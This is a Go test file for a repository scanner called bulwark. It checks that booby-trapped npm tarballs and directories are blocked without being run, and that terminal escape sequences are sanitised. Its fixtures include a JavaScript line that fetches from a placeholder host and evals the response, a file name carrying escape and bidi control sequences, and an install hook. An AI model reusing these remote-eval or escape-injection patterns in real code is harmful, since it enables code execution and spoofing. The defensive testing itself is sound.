package cli

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

// writeTarGz writes the tree under dir as a gzip-compressed tar at out,
// its members under prefix/ as npm pack names them, plus the extra
// members given by name (hostile names the file system could not hold).
func writeTarGz(t *testing.T, dir, prefix, out string, extra map[string]string) {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	add := func(name string, data []byte) {
		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(data)), Typeflag: tar.TypeReg, ModTime: time.Unix(0, 0)}); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write(data); err != nil {
			t.Fatal(err)
		}
	}
	if dir != "" {
		err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return err
			}
			data, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			rel, _ := filepath.Rel(dir, p)
			add(prefix+"/"+filepath.ToSlash(rel), data)
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	for name, data := range extra {
		add(name, []byte(data))
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(out, buf.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
}

// writeTree writes files (slash paths → content) under a new temporary
// directory and returns it.
func writeTree(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, data := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// scanJSON is the JSON report of 'scan repo --json' as the command-line
// contract names its fields.
type scanJSON struct {
	Verdict  string `json:"verdict"`
	Findings []struct {
		Rule        string `json:"rule"`
		Severity    string `json:"severity"`
		File        string `json:"file"`
		Line        int    `json:"line"`
		Snippet     string `json:"snippet"`
		Explanation string `json:"explanation"`
	} `json:"findings"`
}

func (r scanJSON) rules() map[string]bool {
	out := map[string]bool{}
	for _, f := range r.Findings {
		out[f.Rule] = true
	}
	return out
}

// TestScanRepo runs 'bulwark scan repo' in-process over directories,
// tarballs, zips and bad input: the verdict's exit code, the findings in
// both outputs, one clear error line for what cannot be read.
func TestScanRepo(t *testing.T) {
	t.Parallel()
	trap := filepath.Join("testdata", "scan", "booby-trapped")
	clean := filepath.Join("testdata", "scan", "clean")
	tmp := t.TempDir()
	tgz := filepath.Join(tmp, "crypto-dashboard-test-1.0.0.tgz")
	writeTarGz(t, trap, "package", tgz, nil)
	// A file name carrying terminal escape sequences (set the window
	// title, clear the screen) and a bidirectional override.
	hostile := filepath.Join(tmp, "hostile.tgz")
	writeTarGz(t, "", "", hostile, map[string]string{
		"package/\x1b]0;pwned\x07lib/\x1b[2J\u202eevil.js": "axios.get('https://x.invalid/a').then((res) => eval(res.data));\n",
	})
	notZip := filepath.Join(tmp, "test-project.zip")
	if err := os.WriteFile(notZip, []byte("this is not a zip archive at all, just text"), 0o600); err != nil {
		t.Fatal(err)
	}
	notGzip := filepath.Join(tmp, "test-project.tgz")
	if err := os.WriteFile(notGzip, []byte("plain text, no gzip signature"), 0o600); err != nil {
		t.Fatal(err)
	}
	review := writeTree(t, map[string]string{
		"src/client.js": "export const ping = () => fetch('http://203.0.113.5/health');\n",
	})
	userRules := filepath.Join(tmp, "rules.yaml")
	if err := os.WriteFile(userRules, []byte(`version: 1
rules:
  - id: ACME-INTERNAL-HOST
    target: "**/*.js"
    type: regex
    regex: 'corp\.acme\.invalid'
    severity: high
    why: "The code names one of our internal hosts: a test project has no reason to know it."
`), 0o600); err != nil {
		t.Fatal(err)
	}
	acme := writeTree(t, map[string]string{"index.js": "const api = 'https://corp.acme.invalid/v1';\n"})
	badRules := filepath.Join(tmp, "bad-rules.yaml")
	if err := os.WriteFile(badRules, []byte("version: 1\nrules:\n  - id: X\n    type: regex\n    regex: '('\n    severity: high\n"), 0o600); err != nil {
		t.Fatal(err)
	}

	tests := []struct {
		name      string
		args      []string
		code      int
		stdout    []string // substrings of stdout
		rules     []string // rule ids the JSON report holds (with --json)
		stderr    string   // substring of stderr
		noEscapes bool     // stdout holds no ESC, BEL or bidi control
	}{
		{name: "trap directory", args: []string{trap}, code: 3,
			stdout: []string{"Verdict: BLOCK (exit 3)", "CRITICAL (", "VSCODE-AUTORUN-TASK  .vscode/tasks.json:9", "NPM-LIFECYCLE-SCRIPT  package.json:6",
				`> scripts.postinstall: "node scripts/setup.js"`, "npm runs this script by itself", "Nothing was executed."}},
		{name: "trap directory json", args: []string{trap, "--json"}, code: 3,
			rules: []string{"NPM-LIFECYCLE-SCRIPT", "VSCODE-AUTORUN-TASK", "JS-EVAL-REMOTE-RESPONSE", "JS-ENV-SENT-OUT"}},
		{name: "trap tarball", args: []string{"--json", tgz}, code: 3, rules: []string{"NPM-LIFECYCLE-SCRIPT", "VSCODE-AUTORUN-TASK"}},
		{name: "clean tree", args: []string{clean}, code: 0, stdout: []string{"Verdict: CLEAR (exit 0)"}},
		{name: "clean tree json", args: []string{clean, "--json"}, code: 0},
		{name: "medium finding is review", args: []string{review}, code: 2, stdout: []string{"Verdict: REVIEW (exit 2)", "RAW-IP-URL  src/client.js:1"}},
		{name: "hostile file name", args: []string{hostile}, code: 3, stdout: []string{`\x1b]0;pwned\x07lib/\x1b[2J\u202eevil.js:1`}, noEscapes: true},
		{name: "user rule file", args: []string{acme, "--rules", userRules, "--json"}, code: 3, rules: []string{"ACME-INTERNAL-HOST"}},
		{name: "rules given twice", args: []string{acme, "--rules", userRules, "--rules", userRules, "--json"}, code: 3, rules: []string{"ACME-INTERNAL-HOST"}},
		{name: "bad rule file", args: []string{clean, "--rules", badRules}, code: 1, stderr: badRules},
		{name: "missing rule file", args: []string{clean, "--rules", filepath.Join(tmp, "nope.yaml")}, code: 1, stderr: "--rules: " + filepath.Join(tmp, "nope.yaml") + ": no such file"},
		{name: "missing iocs file", args: []string{clean, "--iocs", filepath.Join(tmp, "nope.csv")}, code: 1, stderr: "--iocs: "},
		{name: "not a zip", args: []string{notZip}, code: 1, stderr: notZip + ": "},
		{name: "not a gzip", args: []string{notGzip}, code: 1, stderr: notGzip + ": not a gzip-compressed tar"},
		{name: "missing path", args: []string{filepath.Join(tmp, "nowhere")}, code: 1, stderr: filepath.Join(tmp, "nowhere") + ": cannot be read"},
		{name: "no path", args: nil, code: 1, stderr: "give one directory, tarball"},
		{name: "two paths", args: []string{clean, trap}, code: 1, stderr: "got 2 arguments"},
		{name: "negative limit", args: []string{clean, "--max-files", "0"}, code: 1, stderr: "must be positive"},
	}
	// A home without a data directory: the scans record nothing and
	// create none.
	home := t.TempDir()
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			code, stdout, stderr := run(t, map[string]string{"HOME": home}, append([]string{"scan", "repo"}, tc.args...)...)
			if code != tc.code {
				t.Fatalf("exit %d, want %d\nstdout:\n%s\nstderr:\n%s", code, tc.code, stdout, stderr)
			}
			for _, s := range tc.stdout {
				if !strings.Contains(stdout, s) {
					t.Errorf("stdout lacks %q:\n%s", s, stdout)
				}
			}
			if tc.stderr != "" {
				if !strings.Contains(stderr, tc.stderr) {
					t.Errorf("stderr lacks %q: %q", tc.stderr, stderr)
				}
				if strings.Count(stderr, "\n") != 1 {
					t.Errorf("want one error line, got %q", stderr)
				}
			}
			if tc.noEscapes && strings.ContainsAny(stdout, "\x1b\x07\u202e\u009b") {
				t.Errorf("stdout carries a control character:\n%q", stdout)
			}
			if slicesContains(tc.args, "--json") {
				var rep scanJSON
				if err := json.Unmarshal([]byte(stdout), &rep); err != nil {
					t.Fatalf("--json output is not JSON: %v\n%s", err, stdout)
				}
				if want := map[int]string{0: "clear", 2: "review", 3: "block"}[tc.code]; rep.Verdict != want {
					t.Errorf("verdict %q, want %q", rep.Verdict, want)
				}
				if rep.Findings == nil {
					t.Errorf("findings is not a list: %s", stdout)
				}
				for _, f := range rep.Findings {
					if f.Rule == "" || f.Severity == "" || f.File == "" || f.Explanation == "" {
						t.Errorf("finding lacks a field: %+v", f)
					}
				}
				got := rep.rules()
				for _, id := range tc.rules {
					if !got[id] {
						t.Errorf("no %s finding; found %v", id, got)
					}
				}
			}
		})
	}
}

func slicesContains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// TestScanRepoProgress: a scan that takes longer than the progress
// interval writes progress lines and a last count to stderr, never to
// stdout.
func TestScanRepoProgress(t *testing.T) {
	t.Parallel()
	files := map[string]string{}
	for i := range 300 {
		files[filepath.ToSlash(filepath.Join("src", "m"+strings.Repeat("x", i%7), "f"+string(rune('a'+i%26))+".js"))] = "export const x = 1;\n"
	}
	dir := writeTree(t, files)
	var out, errb bytes.Buffer
	home := t.TempDir()
	m := &Main{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &errb, LookupEnv: func(k string) (string, bool) { return home, k == "HOME" },
		scanProgressEvery: time.Nanosecond}
	code := m.Run(context.Background(), []string{"scan", "repo", dir, "--json"})
	if code != 0 {
		t.Fatalf("exit %d\n%s\n%s", code, out.String(), errb.String())
	}
	if !strings.Contains(errb.String(), "bulwark: scanning: ") || !strings.Contains(errb.String(), "bulwark: scanned ") {
		t.Errorf("stderr has no progress: %q", errb.String())
	}
	var rep scanJSON
	if err := json.Unmarshal(out.Bytes(), &rep); err != nil {
		t.Fatalf("stdout is not only the JSON report: %v\n%s", err, out.String())
	}
}

// TestTermSafe: what the human report prints from a scanned tree cannot
// drive the terminal.
func TestTermSafe(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ in, want string }{
		{"plain.js", "plain.js"},
		{"a\x1b[31mred", `a\x1b[31mred`},
		{"title\x1b]0;x\x07", `title\x1b]0;x\x07`},
		{"c1\u009b2J", `c1\u{009b}2J`},
		{"bidi\u202eevil\u2066", `bidi\u{202e}evil\u{2066}`},
		{"zero\u200bwidth", `zero\u{200b}width`},
		{"line\nbreak\r", `line\nbreak\r`},
		{"bad\xffbyte", `bad\xffbyte`},
		{"tab\there", "tab here"},
		{"ㅤfiller", `\u{3164}filler`},
		{"日本語 ok", "日本語 ok"},
		{strings.Repeat("a", 10), "aaaaa…"},
	} {
		n := 100
		if len(tc.in) == 10 {
			n = 5
		}
		if got := termSafe(tc.in, n); got != tc.want {
			t.Errorf("termSafe(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestScanRepoBinary runs the built binary: a booby-trapped "coding test"
// packed as an npm tarball is blocked (exit 3), a clean tree is clear
// (exit 0), and nothing in either is run.
func TestScanRepoBinary(t *testing.T) {
	t.Parallel()
	bin := buildBinary(t)
	tmp := t.TempDir()
	tgz := filepath.Join(tmp, "take-home.tgz")
	// The trap's postinstall would create this file if it ever ran.
	marker := filepath.Join(tmp, "ran")
	trap := writeTree(t, map[string]string{
		"package.json":     `{"name": "take-home", "version": "1.0.0", "scripts": {"postinstall": "node -e \"require('fs').writeFileSync('` + marker + `', '')\""}}` + "\n",
		"server/routes.js": "const axios = require('axios');\naxios.get('https://api.invalid/key').then(res => eval(res.data));\n",
	})
	writeTarGz(t, trap, "package", tgz, nil)
	for _, tc := range []struct {
		name string
		args []string
		code int
		want string
	}{
		{"booby-trapped tarball", []string{"scan", "repo", tgz}, 3, "Verdict: BLOCK (exit 3)"},
		{"booby-trapped tarball json", []string{"scan", "repo", "--json", tgz}, 3, `"verdict": "block"`},
		{"clean tree", []string{"scan", "repo", filepath.Join("testdata", "scan", "clean")}, 0, "Verdict: CLEAR (exit 0)"},
	} {
		cmd := exec.Command(bin, tc.args...)
		cmd.Env = append(os.Environ(), "BULWARK_CONFIG=", "HOME="+tmp)
		var out, errb bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &errb
		err := cmd.Run()
		code := 0
		var ee *exec.ExitError
		if errors.As(err, &ee) {
			code = ee.ExitCode()
		} else if err != nil {
			t.Fatal(err)
		}
		if code != tc.code || !strings.Contains(out.String(), tc.want) {
			t.Errorf("%s: exit %d (want %d), stdout lacks %q?\n%s\n%s", tc.name, code, tc.code, tc.want, out.String(), errb.String())
		}
	}
	if _, err := os.Stat(marker); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the trap's install script ran: %v", err)
	}
	if entries, _ := os.ReadDir(tmp); len(entries) != 1 {
		t.Errorf("the scan wrote files in the temp dir (HOME): %v", entries)
	}
}

// FuzzTermSafe: whatever a scanned tree holds, the human report's text
// carries no control, format or invisible character and no invalid UTF-8.
func FuzzTermSafe(f *testing.F) {
	for _, s := range []string{"plain.js", "a\x1b[31mred", "\x9b2J", "bidi\u202eevil", "bad\xff", "zero\u200bwidth\ufe0f", "\u3164", "line\nbreak"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := termSafe(s, 1000)
		if !utf8.ValidString(out) {
			t.Fatalf("termSafe(%q) = %q: not UTF-8", s, out)
		}
		for _, r := range out {
			if r < 0x20 || r == 0x7f || unsafeRune(r) {
				t.Fatalf("termSafe(%q) = %q keeps %U", s, out, r)
			}
		}
	})
}

// TestScanRepoAudit: 'scan repo' records its verdict in the audit log
// (scan.repo, as POST /api/v1/scan does) when a data directory is in use
// (given, or the default one holding a store): a tarball by its SHA-256,
// a directory by its path, the rule ids and never a snippet. Without a
// data directory it records nothing and creates none.
func TestScanRepoAudit(t *testing.T) {
	t.Parallel()
	tmp := t.TempDir()
	trap := filepath.Join("testdata", "scan", "booby-trapped")
	tgz := filepath.Join(tmp, "take-home.tgz")
	writeTarGz(t, trap, "package", tgz, nil)
	data, err := os.ReadFile(tgz)
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(data)
	absTrap, err := filepath.Abs(trap)
	if err != nil {
		t.Fatal(err)
	}

	// No data directory: nothing recorded, nothing created.
	home := filepath.Join(tmp, "home")
	if code, stdout, stderr := run(t, map[string]string{"HOME": home}, "scan", "repo", tgz); code != 3 || strings.Contains(stderr, "audit") {
		t.Fatalf("exit %d, stderr %q\n%s", code, stderr, stdout)
	}
	if _, err := os.Stat(filepath.Join(home, ".local", "share", "bulwark")); !errors.Is(err, fs.ErrNotExist) {
		t.Fatalf("a scan without a data directory created one: %v", err)
	}

	// A data directory given: each scan is recorded.
	env := map[string]string{"HOME": home, "BULWARK_DATA": filepath.Join(tmp, "data")}
	code, stdout, stderr := run(t, env, "scan", "repo", "--json", tgz)
	if code != 3 || !strings.Contains(stderr, "recorded as audit entry") {
		t.Fatalf("exit %d, stderr %q", code, stderr)
	}
	var rep scanJSON
	if err := json.Unmarshal([]byte(stdout), &rep); err != nil {
		t.Fatalf("stdout is not only the JSON report: %v\n%s", err, stdout)
	}
	if code, _, stderr := run(t, env, "scan", "repo", trap); code != 3 || !strings.Contains(stderr, "recorded as audit entry") {
		t.Fatalf("exit %d, stderr %q", code, stderr)
	}
	code, stdout, stderr = run(t, env, "audit", "list", "--json")
	if code != 0 {
		t.Fatalf("audit list: exit %d: %s", code, stderr)
	}
	var entries []struct {
		Actor, Action, Target string
		Details               map[string]any
	}
	if err := json.Unmarshal([]byte(stdout), &entries); err != nil {
		t.Fatal(err)
	}
	var scans []string
	for _, e := range entries {
		if e.Action != "scan.repo" {
			continue
		}
		scans = append(scans, e.Target)
		if e.Details["verdict"] != "block" || !strings.HasPrefix(e.Actor, "cli") {
			t.Errorf("entry %s: actor %q details %v", e.Target, e.Actor, e.Details)
		}
		rules, _ := e.Details["rules"].([]any)
		if len(rules) == 0 {
			t.Errorf("entry %s names no rule: %v", e.Target, e.Details)
		}
		if raw, _ := json.Marshal(e.Details); strings.Contains(string(raw), "postinstall") {
			t.Errorf("entry %s carries scanned content: %s", e.Target, raw)
		}
	}
	want := []string{"dir:" + absTrap, "sha256:" + hex.EncodeToString(sum[:])} // newest first
	if strings.Join(scans, " ") != strings.Join(want, " ") {
		t.Errorf("scan.repo entries %v, want %v", scans, want)
	}
}

// TestScanRepoProgressCountsFilesOnce: a file read in several windows
// counts once in the progress lines, its bytes once.
func TestScanRepoProgressCountsFilesOnce(t *testing.T) {
	t.Parallel()
	dir := writeTree(t, map[string]string{"big.js": strings.Repeat("// padding line\n", 4096)})
	var out, errb bytes.Buffer
	home := t.TempDir()
	m := &Main{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &errb, LookupEnv: func(k string) (string, bool) { return home, k == "HOME" },
		scanProgressEvery: time.Nanosecond}
	if code := m.Run(context.Background(), []string{"scan", "repo", dir, "--json", "--max-file-bytes", "4096"}); code != 0 {
		t.Fatalf("exit %d\n%s\n%s", code, out.String(), errb.String())
	}
	if !strings.Contains(errb.String(), "bulwark: scanned 1 file, 64.0 KiB\n") {
		t.Errorf("want the last progress line to count 1 file of 64 KiB: %q", errb.String())
	}
}

// TestScanRepoBrokenStore: a default store that is not a database (or
// cannot be opened) does not stop 'scan repo': the verdict and its exit
// code are as without a store, and stderr warns that the scan was not
// recorded.
func TestScanRepoBrokenStore(t *testing.T) {
	t.Parallel()
	home := t.TempDir()
	dir := filepath.Join(home, ".local", "share", "bulwark")
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "bulwark.db"), []byte("garbage, not a SQLite file\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	trap := filepath.Join("testdata", "scan", "booby-trapped")
	for _, env := range []map[string]string{{"HOME": home}, {"HOME": t.TempDir(), "BULWARK_DATA": dir}} {
		code, stdout, stderr := run(t, env, "scan", "repo", "--json", trap)
		if code != 3 || !strings.Contains(stderr, "will not be recorded in the audit log") {
			t.Fatalf("env %v: exit %d, stderr %q", env, code, stderr)
		}
		var rep scanJSON
		if err := json.Unmarshal([]byte(stdout), &rep); err != nil {
			t.Fatalf("stdout is not only the JSON report: %v\n%s", err, stdout)
		}
	}
}
